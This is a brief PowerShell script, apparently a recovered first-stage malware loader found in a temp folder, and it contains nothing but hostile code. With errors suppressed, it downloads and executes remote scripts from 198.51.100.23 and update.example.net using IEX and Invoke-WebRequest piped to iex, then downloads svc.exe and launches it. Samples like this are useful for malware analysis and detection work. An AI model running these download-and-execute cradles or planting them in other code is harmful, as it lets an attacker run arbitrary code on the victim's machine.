# stage1.ps1 - recovered from %TEMP%
$ErrorActionPreference = 'SilentlyContinue'
IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/update/stage2.ps1')
Invoke-WebRequest -UseBasicParsing -Uri 'https://update.example.net/a.ps1' | iex
(New-Object System.Net.WebClient).DownloadFile('http://198.51.100.23/svc.exe', "$env:TEMP\svc.exe"); Start-Process "$env:TEMP\svc.exe"
